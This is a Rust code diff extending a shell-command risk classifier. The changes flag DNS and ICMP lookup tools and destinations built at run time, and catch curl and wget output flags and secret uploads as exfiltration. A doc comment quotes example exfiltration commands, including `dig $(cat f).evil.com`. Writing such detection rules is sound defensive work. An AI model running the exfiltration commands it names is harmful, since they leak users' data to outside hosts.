@@ -36,9 +36,36 @@ pub(crate) fn judge(name: &str, inv: &Invocation<'_>) -> Option<Judgement> {
         .networked(),
         "scp" | "rsync" => copy_remote(name, inv),
         "ssh" | "mosh" => ssh(name, inv),
+        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "traceroute6"
+        | "tracepath" | "mtr" | "whois" | "arping" | "nmap" | "getent" | "resolvectl" => {
+            Judgement::of(
+                RiskLevel::Medium,
+                "network.lookup",
+                format!("{name} queries the network (DNS or ICMP can carry data out)"),
+            )
+            .networked()
+        }
         _ => return None,
     };
-    Some(judgement)
+    Some(judgement.raise(dynamic_destination(name, inv)))
+}
+
+/// A destination built at run time (`curl https://x/$(whoami)`, `dig $(cat f).evil.com`) is
+/// the shape of exfiltration.
+fn dynamic_destination(name: &str, inv: &Invocation<'_>) -> Finding {
+    let dynamic = inv
+        .args()
+        .iter()
+        .any(|a| !a.text.starts_with('-') && (a.dynamic || a.secret_var));
+    if dynamic {
+        Finding::new(
+            RiskLevel::High,
+            "network.dynamic-destination",
+            format!("{name} is given a destination or data known only at run time"),
+        )
+    } else {
+        Finding::new(RiskLevel::Low, "network.fetch", "")
+    }
 }
 
 fn fetch(name: &str, inv: &Invocation<'_>) -> Judgement {
@@ -59,10 +86,7 @@ fn fetch(name: &str, inv: &Invocation<'_>) -> Judgement {
             continue;
         }
         let value = match inline_value {
-            Some(v) => Arg {
-                text: v.to_owned(),
-                dynamic: arg.dynamic,
-            },
+            Some(v) => arg.part(v),
             None => match args.get(i + 1) {
                 Some(v) => v.clone(),
                 None => continue,
@@ -78,6 +102,22 @@ fn fetch(name: &str, inv: &Invocation<'_>) -> Judgement {
                 "secrets.exfiltration",
                 format!("{name} uploads secret file {}", file.text),
             ));
+        }
+    }
+    for (i, arg) in args.iter().enumerate() {
+        let t = arg.text.as_str();
+        let clustered = t.len() > 2 && t.starts_with('-') && !t.starts_with("--");
+        if clustered
+            && (t.ends_with('o') || (name == "wget" && t.ends_with('O')))
+            && let Some(target) = args.get(i + 1)
+        {
+            judgement = judgement.raise(inv.write_to(target));
+        }
+        if let Some(target) = t
+            .strip_prefix("--output=")
+            .or_else(|| t.strip_prefix("--output-document="))
+        {
+            judgement = judgement.raise(inv.write_to(&arg.part(target)));
         }
     }
     for target in option_values(args, &["-o", "--output", "-O", "--output-document"]) {
@@ -99,10 +139,7 @@ fn uploaded_file(option: &str, value: &Arg) -> Option<Arg> {
     }
     let at = value.text.find('@')?;
     let file = value.text[at + 1..].split(';').next().unwrap_or("");
-    Some(Arg {
-        text: file.to_owned(),
-        dynamic: value.dynamic,
-    })
+    Some(value.part(file))
 }
 
 fn copy_remote(name: &str, inv: &Invocation<'_>) -> Judgement {
@@ -124,6 +161,12 @@ fn copy_remote(name: &str, inv: &Invocation<'_>) -> Judgement {
             "secrets.exfiltration",
             format!("{name} sends secret {}", secret.text),
         ));
+    }
+    if let Some(dest) = ops.last()
+        && !dest.text.contains(':')
+    {
+        // A local destination is a write like `cp`'s.
+        judgement = judgement.raise(inv.write_to(dest));
     }
     if inv.args().iter().any(|a| a.text.starts_with("--delete")) {
         judgement = judgement.raise(Finding::new(
